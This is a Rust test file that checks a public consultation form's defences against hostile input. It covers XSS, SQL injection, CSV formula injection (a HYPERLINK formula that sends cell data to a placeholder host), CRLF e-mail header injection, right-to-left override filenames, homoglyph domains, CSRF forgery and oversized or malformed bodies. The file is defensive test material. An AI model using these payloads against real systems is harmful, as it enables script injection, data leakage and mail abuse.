//! The hostile-input catalogue against the public consultation form. It does not fit
//! `hostile_suite::Target`: its hidden fields (idempotency key, signed start time) come fresh
//! from every form handed out, its field names hold question ids, it refuses answers sent within
//! 3 seconds, it shows itself again (422, everything typed kept) when the CSRF check fails, and
//! a name sent twice is normal (checkboxes). So: the same attacks, with this form's expectations.
//! Each request must not 5xx; a refused one stores nothing (every table's row count); stored
//! text is shown escaped on the organiser's responses page.

use crate::consultation::{EVERY_KIND, Setup, hidden, setup};
use crate::helpers::{TestApp, client, csrf_token, spawn_app};
use chrono::Duration;
use inspraak_domain::consultation::question::SHORT_TEXT_MAX;

enum Want {
    /// 303 to the receipt; the text appears escaped among the responses.
    Stored(String),
    /// The form again (422) with an error summary or notice, this text kept (escaped).
    Form(String),
    /// Refused before the form: one of these statuses and a page with a heading.
    Status(&'static [u16]),
}

/// One attack: answers with one field replaced, or a raw body, and how it is sent.
struct Attack {
    name: &'static str,
    /// (question index, suffix of the field name, value)
    change: Option<(usize, &'static str, String)>,
    raw: Option<(Vec<u8>, &'static str)>,
    method: &'static str,
    csrf: Csrf,
    header: Option<(&'static str, &'static str)>,
    want: Want,
}

#[derive(PartialEq)]
enum Csrf {
    Valid,
    Missing,
    Forged,
    OtherVisitor,
}

fn answer(name: &'static str, q: usize, suffix: &'static str, value: &str, want: Want) -> Attack {
    Attack {
        name,
        change: Some((q, suffix, value.to_owned())),
        raw: None,
        method: "POST",
        csrf: Csrf::Valid,
        header: None,
        want,
    }
}

fn stored(name: &'static str, q: usize, value: &str) -> Attack {
    answer(name, q, "", value, Want::Stored(value.to_owned()))
}

fn kept(name: &'static str, q: usize, value: &str) -> Attack {
    answer(name, q, "", value, Want::Form(value.to_owned()))
}

fn refused(name: &'static str, want: &'static [u16]) -> Attack {
    Attack {
        change: None,
        want: Want::Status(want),
        ..answer(name, 0, "", "", Want::Status(&[]))
    }
}

fn raw(name: &'static str, body: Vec<u8>, kind: &'static str, want: &'static [u16]) -> Attack {
    Attack {
        raw: Some((body, kind)),
        ..refused(name, want)
    }
}

fn attacks() -> Vec<Attack> {
    // EVERY_KIND: 0 short text (required), 1 long text (at most 50), 8 e-mail updates.
    let form = "application/x-www-form-urlencoded";
    let typed = || Want::Form("Open source".into());
    vec![
        stored(
            "<script> in a one-line answer",
            0,
            "<script>alert(1)</script>",
        ),
        stored("attribute break-out", 0, "\"><svg onload=alert(1)>"),
        stored("SQL", 0, "' OR 1=1 --"),
        stored(
            "CSV formula =HYPERLINK",
            0,
            "=HYPERLINK(\"http://x.example?\"&A1)",
        ),
        // Typed decomposed, stored and shown in NFC (issue 20: one text rule).
        answer(
            "emoji and combining accents",
            0,
            "",
            "Cafe\u{301} 🇳🇱 overleg",
            Want::Stored("Caf\u{e9} 🇳🇱 overleg".to_owned()),
        ),
        stored(
            "<img onerror> in a multi-line answer",
            1,
            "<img src=x onerror=alert(1)>",
        ),
        stored(
            "CSV formulas + - @ tab",
            1,
            "+1+1\n-2+3\n@SUM(A1)\n\t=1,\"a\"",
        ),
        kept("NUL in a one-line answer", 0, "voor\0na"),
        kept("NUL in a multi-line answer", 1, "voor\0na"),
        kept(
            "one character over the limit",
            0,
            &"x".repeat(SHORT_TEXT_MAX + 1),
        ),
        kept(
            "100 000 characters without a space",
            1,
            &"x".repeat(100_000),
        ),
        answer(
            "only spaces in a required answer",
            0,
            "",
            "   ",
            Want::Form(String::new()),
        ),
        kept(
            "CR/LF in a one-line answer",
            0,
            "Jan\r\nBcc: x@evil.example",
        ),
        kept("right-to-left override", 0, "factuur\u{202E}fdp.exe"),
        kept(
            "CR/LF in an e-mail address",
            8,
            "a@example.nl\r\nBcc: x@evil.example",
        ),
        kept(
            "display-name e-mail",
            8,
            "\"x\"@evil.example <a@example.nl>",
        ),
        kept(
            "e-mail over 254 characters",
            8,
            &format!("{}@example.nl", "a".repeat(250)),
        ),
        // A homoglyph domain (Cyrillic а): domains must be ASCII (xn-- form for IDN).
        kept("homoglyph e-mail domain", 8, "org@ex\u{0430}mple.nl"),
        answer("unknown option", 2, "", "9", typed()),
        answer("a ranking place out of range", 5, "_t1", "1e309", typed()),
        Attack {
            csrf: Csrf::Missing,
            ..answer("no CSRF token", 0, "", "Open source", typed())
        },
        Attack {
            csrf: Csrf::Forged,
            ..answer("forged CSRF token", 0, "", "Open source", typed())
        },
        Attack {
            csrf: Csrf::OtherVisitor,
            ..answer(
                "another visitor's CSRF token",
                0,
                "",
                "Open source",
                typed(),
            )
        },
        Attack {
            header: Some(("Origin", "https://evil.example")),
            ..refused("valid token from a foreign Origin", &[403])
        },
        Attack {
            header: Some(("Sec-Fetch-Site", "cross-site")),
            ..refused("Sec-Fetch-Site: cross-site", &[403])
        },
        Attack {
            method: "PUT",
            ..refused("PUT", &[404, 405])
        },
        Attack {
            method: "DELETE",
            ..refused("DELETE", &[404, 405])
        },
        raw("10 MB body", vec![b'a'; 10 * 1024 * 1024], form, &[413]),
        raw(
            "one byte over 256 KiB",
            vec![b'a'; 256 * 1024 + 1],
            form,
            &[413],
        ),
        raw(
            "invalid UTF-8 in a value",
            b"q1=%C3%28".to_vec(),
            form,
            &[400],
        ),
        raw(
            "raw bytes that are not UTF-8",
            b"x=\xff\xfe".to_vec(),
            form,
            &[400],
        ),
        raw(
            "JSON body",
            b"{\"q1\":\"x\"}".to_vec(),
            "application/json",
            &[400, 403, 415],
        ),
        raw(
            "text/plain body",
            b"q1=x".to_vec(),
            "text/plain",
            &[400, 403, 415],
        ),
    ]
}

/// Sends one attack with a freshly handed-out form; returns what is wrong.
async fn run(app: &TestApp, s: &Setup, attack: &Attack) -> Vec<String> {
    let html = app
        .get_html(&format!("/processen/{}/consultatie", s.slug))
        .await;
    // Past the minimum fill time (the stored cases stay under the rate limit).
    app.clock.advance(Duration::seconds(4));
    let token = match attack.csrf {
        Csrf::Valid => Some(csrf_token(&html)),
        Csrf::Missing => None,
        Csrf::Forged => Some("00ff".repeat(16)),
        Csrf::OtherVisitor => {
            let other = client().get(app.url("/inloggen")).send().await.unwrap();
            Some(csrf_token(&other.text().await.unwrap()))
        }
    };
    let mut fields: Vec<(String, String)> = token
        .map(|t| ("csrf_token".to_owned(), t))
        .into_iter()
        .collect();
    fields.push(("idempotency_key".into(), hidden(&html, "idempotency_key")));
    fields.push(("form_started".into(), hidden(&html, "form_started")));
    let mut answers = s.full_answers();
    if let Some((q, suffix, value)) = &attack.change {
        let name = format!("{}{suffix}", s.field(*q));
        let name = name.replace("_t1", &format!("_t{}", s.themes[0]));
        answers.retain(|(k, _)| *k != name);
        answers.push((name, value.clone()));
    }
    fields.extend(answers);
    let action = format!("/processen/{}/consultatie/{}", s.slug, s.consultation);
    let method = attack.method.parse().unwrap();
    let mut request = app.client.request(method, app.url(&action));
    request = match &attack.raw {
        Some((body, kind)) => request.header("Content-Type", *kind).body(body.clone()),
        None => request.form(&fields),
    };
    if let Some((name, value)) = attack.header {
        request = request.header(name, value);
    }
    let before = inspraak_store::testing::row_counts(&app.db).await.unwrap();
    let (status, page) = match request.send().await {
        Ok(r) => (r.status().as_u16(), r.text().await.unwrap_or_default()),
        Err(_) if matches!(attack.want, Want::Status(s) if s.contains(&413)) => (413, "<h1".into()),
        Err(error) => return vec![format!("no answer: {error}")],
    };
    let after = inspraak_store::testing::row_counts(&app.db).await.unwrap();
    let mut problems = Vec::new();
    if status >= 500 {
        problems.push(format!("server error {status}"));
    }
    let escaped = |t: &str| {
        t.replace('&', "&amp;")
            .replace('<', "&lt;")
            .replace('>', "&gt;")
            .replace('"', "&quot;")
    };
    match &attack.want {
        Want::Stored(text) => {
            if status != 303 || before == after {
                problems.push(format!(
                    "status {status}, expected 303 and a stored response"
                ));
            }
            let path = format!("/beheer/consultaties/{}/reacties", s.consultation);
            let list = app.get_html(&path).await;
            if !list.contains(&escaped(text)) || (text.contains(['<', '"']) && list.contains(text))
            {
                problems.push("not shown escaped among the responses".into());
            }
        }
        Want::Form(text) => {
            if status != 422 || !page.contains("class=\"error-summary\"") {
                problems.push(format!(
                    "status {status}, expected the form again with a summary"
                ));
            }
            if !page.contains(&escaped(text)) || (text.contains(['<', '"']) && page.contains(text))
            {
                problems.push("what was typed is not kept (escaped)".into());
            }
        }
        Want::Status(statuses) => {
            if !statuses.contains(&status) || !page.contains("<h1") {
                problems.push(format!(
                    "status {status}, expected one of {statuses:?} with a page"
                ));
            }
        }
    }
    if !matches!(attack.want, Want::Stored(_)) && before != after {
        problems.push("a refused request changed stored data".into());
    }
    problems
}

#[tokio::test]
async fn hostile_input_against_the_consultation_form() {
    let app = spawn_app().await;
    app.login_as_organiser().await; // to read the responses page; the form is public
    let s = setup(&app, &EVERY_KIND).await;
    let mut failures = Vec::new();
    let all = attacks();
    for attack in &all {
        for problem in run(&app, &s, attack).await {
            failures.push(format!("consultation / {}: {problem}", attack.name));
        }
    }
    println!("hostile input: consultation form: {} cases", all.len());
    assert!(
        failures.is_empty(),
        "{} failures:\n{}",
        failures.len(),
        failures.join("\n")
    );
}
